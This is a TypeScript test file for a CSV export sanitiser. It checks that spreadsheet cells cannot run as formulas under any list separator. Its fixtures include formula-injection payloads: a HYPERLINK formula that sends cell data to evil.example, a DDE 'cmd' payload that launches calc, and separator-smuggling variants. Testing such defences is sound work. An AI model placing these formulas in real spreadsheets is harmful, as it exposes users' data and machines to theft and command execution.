import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { cellValue, safeCell, spreadsheetFault } from '../../src/domain/spreadsheet';
import { CSV_DIALECT } from '../../src/services/export-cases';

const RUNS = /^[\s"]*[=+\-@＝＋－＠]|^[\t\r]/;

/**
 * The cells that a spreadsheet with this list separator makes of a file: a value is quoted if it begins with a quote,
 * which ends at the next single one; whatever follows belongs to the value up to the separator.
 */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isStart = true;
  for (let at = 0; at < text.length; at++) {
    const char = text[at] ?? '';
    if (isQuoted) {
      if (char !== '"') cell += char;
      else if (text[at + 1] === '"') cell += text[at++];
      else isQuoted = false;
    } else if (char === '"' && isStart) {
      isQuoted = true;
      isStart = false;
    } else if (char === separator || char === '\n' || (char === '\r' && text[at + 1] === '\n')) {
      cells.push(cell);
      cell = '';
      isStart = true;
      if (char === '\r') at++;
    } else {
      cell += char;
      isStart = false;
    }
  }
  return [...cells, cell];
}
const file = (rows: readonly (readonly string[])[]) =>
  stringify(
    rows.map((row) => row.map(safeCell)),
    { ...CSV_DIALECT, bom: false },
  );
const SEPARATORS = [',', ';', '\t'];
/** What any of these spreadsheets would run, parsed strictly, as written, and by a tolerant parser. */
const running = (rows: readonly (readonly string[])[]) =>
  SEPARATORS.flatMap((delimiter) => {
    const text = file(rows);
    const options = { delimiter, relax_quotes: true, relax_column_count: true, skip_records_with_error: true };
    const parsed: string[][] = parse(text, options);
    return [...cellsOf(text, delimiter), ...parsed.flat()].filter((cell) => RUNS.test(cell));
  });

describe('a cell of an export', () => {
  it.each([
    'ok;=1+1;',
    'see;=HYPERLINK("https://evil.example/?"&A1)',
    '=1',
    '+1 415 555 0101',
    '-5',
    '@x',
    '\t=1',
    '\r=1',
    ' =1',
    '"=1"',
    '＝1',
    'a\n=1',
    'a\r\n@x',
    'a\r=1',
    'a;"=1+1"',
    'a; =1',
    'a;;=1',
    'a\t=1',
    'a;\t=1',
    'a,"b;=1',
    'ends with;',
    'ends with, and;',
    'ends with "quotes";"',
    'ends with a line\n',
    "\";=cmd|' /C calc'!A0",
  ])('is harmless for every list separator: %j', (text) => {
    expect(running([['SPF-1', text, 'x', text]])).toEqual([]);
    expect(
      running([
        ['SPF-1', text, text],
        ['SPF-2', 'after', text],
      ]),
    ).toEqual([]);
  });

  it('is harmless whatever people write, next to anything', () => {
    const hostile = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '\r', '\n', '"', "'", ' ', 'a', '1', '＝'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(hostile, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          expect(running(rows.map((row, i) => [`SPF-${i}`, ...row]))).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it.each([
    'Zebra, "quoted"; día',
    'COACH; NO WORK',
    'a-b = c + d @ e',
    '2026-11-02T17:00:00.000Z',
    'Dana: Rang\nTom: Wrote',
    '',
  ])('is unchanged if nothing in it could run: %j', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it.each([
    ['ok;=1+1;', "ok;'=1+1;'"],
    ['=1', "'=1"],
    ['-5', "'-5"],
    ['a\n- b', "a\n'- b"],
    ['a; "=1"', 'a;\' "=1"'],
    ['a\tb\r\nc', 'a b\nc'],
  ])('has an apostrophe if something could: %j', (text, cell) => {
    expect(safeCell(text)).toBe(cell);
    expect(safeCell(`${'\n'.repeat(200_000)}=`)).toHaveLength(400_001);
  });

  it("is intact for the file's own separator", () => {
    const rows = [
      ['SPF-1', 'two\nlines', 'a, b; "c"'],
      ['SPF-2', 'x', ''],
    ];
    expect(parse(file(rows))).toEqual(rows);
  });
});

describe('a cell of an import', () => {
  it.each([
    ['="0306703"', '0306703'],
    ["'+1 415", '+1 415'],
    ["'tis", "'tis"],
    ['=1+1', '=1+1'],
    ['plain', 'plain'],
  ])('%s means %s', (cell, value) => {
    expect(cellValue(cell)).toBe(value);
  });

  it.each(['SP-100275', '7E-12', '12E5', 'E+05', '+1 415 555 0101', '91.5', '#am-west', 'N/A', ''])(
    '%j is unchanged',
    (cell) => {
      expect(spreadsheetFault(cell)).toBeNull();
    },
  );
  it.each(['1,00275E+05', '1.41556E+10', '1E+05', '-1.5E-07', '#REF!', '#N/A', '########'])('%s is refused', (cell) => {
    expect(spreadsheetFault(cell)).toContain(cell);
  });
});
